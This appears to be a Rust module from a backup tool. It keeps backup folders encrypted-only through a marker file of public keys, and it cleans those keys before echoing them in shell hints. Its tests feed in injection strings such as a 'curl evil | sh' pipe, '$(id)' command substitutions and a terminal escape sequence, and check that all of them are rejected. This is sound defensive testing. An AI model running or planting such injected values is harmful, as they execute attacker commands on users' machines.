//! Folders in which only encrypted backups are kept: nothing is written there in plain text because a key was forgotten.

use super::{Compression, PortableArchive, name};
use crate::{Error, ErrorKind, Result, destination::Destination};
use serde::{Deserialize, Serialize};

/// Made by `init`. It names public keys only, and nothing is encrypted to what it names: who can write there could change it.
const MARKER: &str = ".backup-encrypted";
const LARGEST: u64 = 1 << 20;
/// More keys, and longer ones in bytes, are not repeated to anybody: the longest of use, of RSA with 16384 bits, has 2800.
const MOST_KEYS: usize = 16;
const LONGEST_KEY: usize = 4096;

#[derive(Default, Serialize, Deserialize)]
struct Marker {
    recipients: Vec<String>,
}

impl Marker {
    /// Whatever stands in it, it is a marker. Of the keys, only what can be shown and pasted into a shell without harm is left.
    fn read(bytes: &[u8]) -> Self {
        let Marker { recipients } = serde_json::from_slice(bytes).unwrap_or_default();
        Marker { recipients: recipients.iter().filter_map(|key| public_key(key)).take(MOST_KEYS).collect() }
    }
}

/// The public key in a text that anybody may have written, without the remark at its end; `None` if it does not look like one.
fn public_key(text: &str) -> Option<String> {
    let all = |text: &str, also: &str| {
        let fits = |c: char| c.is_ascii_alphanumeric() || also.contains(c);
        !text.is_empty() && text.len() <= LONGEST_KEY && text.chars().all(fits)
    };
    if let Some(rest) = text.strip_prefix("age1") {
        return (all(rest, "") && !rest.contains(|c: char| c.is_ascii_uppercase())).then(|| text.to_owned());
    }
    let mut words = text.split(' ');
    let (kind, key) = (words.next()?, words.next()?);
    (kind.starts_with("ssh-") && all(kind, "-") && all(key, "+/=")).then(|| format!("{kind} {key}"))
}

/// What a folder says of encryption.
struct Found {
    marker: Option<Marker>,
    encrypted: usize,
    /// Those that have a sidecar: tars of other programs are no backups.
    plain: usize,
}

async fn marker(destination: &dyn Destination) -> Result<Option<Marker>> {
    match destination.read_small(MARKER, LARGEST).await {
        Err(e) if e.kind() == ErrorKind::NotFound => Ok(None),
        read => Ok(read?.map(|bytes| Marker::read(&bytes))),
    }
}

async fn look(destination: &dyn Destination) -> Result<Found> {
    let absent = |e: &Error| e.kind() == ErrorKind::NotFound;
    let marker = marker(destination).await?;
    let all = match destination.list().await {
        Err(e) if absent(&e) => Vec::new(),
        all => all?,
    };
    let is_backup = |name: &&str| Compression::of_name(name).is_some() && !name.starts_with('.');
    let names = all.iter().map(|s| s.name.as_str()).filter(is_backup);
    let (encrypted, plain): (Vec<_>, Vec<_>) = names.partition(|n| name::is_encrypted(n));
    // The listing is sorted by name.
    let is_there = |name: String| all.binary_search_by(|s| s.name.cmp(&name)).is_ok();
    let plain = plain.into_iter().filter(|n| is_there(name::manifest_sidecar(n))).count();
    Ok(Found { marker, encrypted: encrypted.len(), plain })
}

impl PortableArchive {
    /// Refuses a backup that is not encrypted where `init` has said so, or all others are. Folders only: a file's name says it.
    pub(super) async fn refuse_plain(&self) -> Result<()> {
        if self.exact().is_some() || !self.options().recipients.is_empty() {
            return Ok(());
        }
        let found = look(&*self.destination()).await?;
        if found.marker.is_none() && (found.encrypted == 0 || found.plain > 0) {
            return Ok(());
        }
        let keys = found.marker.map(|m| m.recipients).unwrap_or_default();
        let (key, compare) = match keys.first() {
            Some(key) => (format!("'{key}'"), " (compare it with the recovery sheet)"),
            None => ("age1…".to_owned(), ""),
        };
        let text = "only encrypted backups are kept there, and nobody is named to whom this one is encrypted";
        Err(Error::new(ErrorKind::Usage, "write the archive", text).on(self).hint(format!(
            "--recipient {key}{compare}, or `encrypt` of the archive in backup.toml; backups that are not encrypted go to another place"
        )))
    }

    /// What is wrong with an encrypted backup where `init` has kept the keys of the recovery sheet: it is encrypted to none of them.
    pub(super) async fn not_for_its_keys(&self) -> Result<Option<String>> {
        let recipients = self.options().recipients.clone();
        if self.exact().is_some() || recipients.is_empty() {
            return Ok(None);
        }
        let kept = marker(&*self.destination()).await?.map(|m| m.recipients).unwrap_or_default();
        if kept.is_empty() {
            return Ok(None);
        }
        let used = tokio::task::spawn_blocking(move || recipients.public_keys())
            .await
            .unwrap_or_else(|e| Err(Error::new(ErrorKind::Panicked, "read the recipients", e)))?;
        let is_one = |key: &String| public_key(key).is_some_and(|key| kept.contains(&key));
        Ok((!used.iter().any(is_one)).then(|| {
            format!(
                "the recovery sheet of {self} will not read this backup: it is not encrypted to the key that was kept there, {}",
                kept.join(", ")
            )
        }))
    }

    /// Refuses to go on where backups are encrypted already: a new pair of keys would not read them.
    pub async fn refuse_new_keys(&self) -> Result<()> {
        if self.exact().is_some() {
            return Ok(());
        }
        let found = look(&*self.destination()).await?;
        let refuse = |text: String, hint: &str| {
            Err(Error::new(ErrorKind::Refused, "make a new pair of keys", text).on(self).hint(hint))
        };
        match found.marker {
            _ if found.encrypted > 0 => refuse(
                format!(
                    "{} encrypted backups are there already, which new keys do not read",
                    found.encrypted
                ),
                "go on with the public key of the recovery sheet (`create --recipient`), or begin another place",
            ),
            Some(marker) => refuse(
                format!("it has keys already: {}", marker.recipients.join(", ")),
                "go on with these; if nobody has the secret one, no backup needs it: remove .backup-encrypted there",
            ),
            None => Ok(()),
        }
    }

    /// Keeps in the folder that its backups are encrypted; `recipients` are told to whoever forgets them. A single file has no
    /// place for it.
    pub async fn keep_encrypted_only(&self, recipients: &[String]) -> Result<()> {
        if self.exact().is_some() {
            return Ok(());
        }
        // Keys themselves, not the names of files that list some on this machine.
        let is_key = |r: &&String| r.starts_with("age1") || r.starts_with("ssh-");
        let marker = Marker { recipients: recipients.iter().filter(is_key).cloned().collect() };
        let bytes = serde_json::to_vec_pretty(&marker).map_err(Error::contract)?;
        self.destination().write_small(MARKER, &bytes).await
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{Archive, Context, portable::PortableOptions};
    use std::path::Path;

    fn with(folder: &Path, files: &[&str]) -> PortableArchive {
        files.iter().for_each(|name| std::fs::write(folder.join(name), "").unwrap());
        PortableArchive::folder(folder, PortableOptions::default()).unwrap()
    }

    #[tokio::test]
    async fn a_tar_of_another_program_does_not_allow_plain_backups_where_all_are_encrypted() {
        let dir = tempfile::tempdir().unwrap();
        let archive = with(dir.path(), &["a-backup.tar.zst.age", "photos.tar.gz"]);
        let e = archive.preflight(None, &Context::default()).await.unwrap_err();
        assert!(e.message().contains("only encrypted backups"), "{e}");
        // A plain backup, which has a sidecar, says that both are kept there.
        with(dir.path(), &["b-backup.tar.zst", "b-backup.tar.zst.manifest.json"]);
        archive.preflight(None, &Context::default()).await.unwrap();
    }

    #[tokio::test]
    async fn a_key_that_anybody_wrote_into_the_marker_is_repeated_only_if_it_is_harmless_in_a_shell() {
        let dir = tempfile::tempdir().unwrap();
        let archive = with(dir.path(), &[]);
        let said = async |recipients: &[&str]| {
            let marker = serde_json::json!({ "recipients": recipients });
            std::fs::write(dir.path().join(MARKER), marker.to_string()).unwrap();
            let forgotten = archive.preflight(None, &Context::default()).await.unwrap_err();
            let again = archive.refuse_new_keys().await.unwrap_err();
            (forgotten.hint_text().unwrap().to_owned(), again.to_string())
        };
        let long = format!("age1{}", "q".repeat(LONGEST_KEY + 1));
        for bad in [
            "age1x'; curl evil | sh #",
            "age1\u{1b}[2J",
            "age1",
            "age1X",
            "--to",
            "$(id)",
            "ssh-ed25519",
            "ssh-ed25519 AA'BB",
            "ssh-$(id) AAAA",
            &long,
        ] {
            let (hint, again) = said(&[bad]).await;
            assert!(hint.starts_with("--recipient age1…,"), "{bad:?}: {hint}");
            assert!(again.ends_with("it has keys already: "), "{bad:?}: {again}");
        }
        let (hint, again) = said(&["$(id)", "age1abc", "ssh-ed25519 AA+/b= it's mine; $(id)"]).await;
        assert!(hint.starts_with("--recipient 'age1abc' (compare"), "{hint}");
        assert!(again.ends_with("it has keys already: age1abc, ssh-ed25519 AA+/b="), "{again}");
        assert_eq!(said(&["age1a"; 999]).await.1.matches("age1a").count(), MOST_KEYS);
    }
}
